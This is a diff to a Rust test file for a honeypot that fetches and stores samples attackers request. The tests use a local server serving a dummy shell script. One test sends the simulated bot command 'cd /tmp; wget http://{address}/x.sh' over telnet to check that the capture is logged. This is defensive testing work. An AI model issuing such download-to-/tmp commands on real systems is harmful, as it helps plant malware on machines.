@@ -1,7 +1,7 @@
 //! The honeypot whole: real sockets on loopback, a store in memory.
 
 use crate::config::{HoneypotConfig, Listener, Ports};
-use crate::downloads::Downloads;
+use crate::downloads;
 use crate::{Honeypot, HoneypotError};
 use std::net::{IpAddr, SocketAddr};
 use std::sync::Arc;
@@ -234,12 +234,12 @@ fn request(url: &str, tool: &'static str) -> FetchRequest {
 }
 
 #[tokio::test]
-async fn the_same_file_is_fetched_once_and_kept() {
+async fn a_file_is_fetched_once_for_many_and_kept_before_they_hear_of_it() {
     let (address, count) = web_server("#!/bin/sh\necho a loader\n").await;
-    let store = store();
-    let downloads = Downloads::new(egress(), store.clone(), Duration::from_mins(5));
+    let (store, egress) = (store(), egress());
     let url = format!("http://{address}/x.sh");
-    let asked = (0..10).map(|_| downloads.fetch(request(&url, "wget")));
+    let asked = (0..10)
+        .map(|_| downloads::fetch(Arc::clone(&egress), store.clone(), request(&url, "wget")));
     let replies = futures_util::future::join_all(asked).await;
     let name = Sha256::of(b"#!/bin/sh\necho a loader\n");
     for reply in &replies {
@@ -247,37 +247,40 @@ async fn the_same_file_is_fetched_once_and_kept() {
         assert_eq!(reply.fetched.sha256, Some(name));
     }
     assert!(store.sample(&name).await.expect("read").is_some());
-    // Later, too; but another command asks for itself.
-    downloads.fetch(request(&url, "wget")).await;
     assert_eq!(count.load(Ordering::Relaxed), 1);
-    downloads.fetch(request(&url, "curl")).await;
-    assert_eq!(count.load(Ordering::Relaxed), 2);
 }
 
 #[tokio::test]
-async fn a_fetch_goes_on_when_the_asker_has_gone() {
-    let (address, count) = web_server("#!/bin/sh\necho another loader\n").await;
+async fn a_bot_that_hangs_up_after_its_line_still_gives_its_sample() {
+    let (address, _) = web_server("#!/bin/sh\necho another loader\n").await;
     let store = store();
-    let downloads = Downloads::new(egress(), store.clone(), Duration::from_mins(5));
-    drop(downloads.fetch(request(&format!("http://{address}/x.sh"), "wget")));
+    let ports = Ports { telnet: vec![0], ..Ports::default() };
+    let honeypot = start(vec![listener("127.0.0.1", "router-mips", ports)], &store).await;
+    let mut peer = log_in(honeypot.services()[0].address).await;
+    let line = format!("cd /tmp; wget http://{address}/x.sh\r\n");
+    peer.write_all(line.as_bytes()).await.expect("written");
+    drop(peer);
     let name = Sha256::of(b"#!/bin/sh\necho another loader\n");
     for _ in 0..100 {
         if store.sample(&name).await.expect("read").is_some() {
-            assert_eq!(count.load(Ordering::Relaxed), 1);
-            return;
+            break;
         }
         tokio::time::sleep(Duration::from_millis(50)).await;
     }
-    panic!("it was never kept");
+    tokio::time::sleep(Duration::from_millis(50)).await;
+    let events = finish(honeypot, &store).await;
+    for kind in ["download.request", "download.result", "sample.captured"] {
+        assert!(names(&events).contains(&kind), "{kind}: {:?}", names(&events));
+    }
 }
 
 #[tokio::test]
 async fn a_url_that_is_none_costs_nothing() {
-    let downloads = Downloads::new(egress(), store(), Duration::from_mins(5));
     let long = format!("http://192.0.2.1/{}", "a".repeat(10_000));
-    let reply = downloads.fetch(request(&long, "wget")).await;
-    assert_eq!(reply.fetched.outcome, FetchOutcome::BadUrl);
     let mut odd = request("", "wget");
     odd.url = PeerText::from(&b"http://192.0.2.1/\xff"[..]);
-    assert_eq!(downloads.fetch(odd).await.fetched.outcome, FetchOutcome::BadUrl);
+    for request in [request(&long, "wget"), odd] {
+        let reply = downloads::fetch(egress(), store(), request).await;
+        assert_eq!(reply.fetched.outcome, FetchOutcome::BadUrl);
+    }
 }
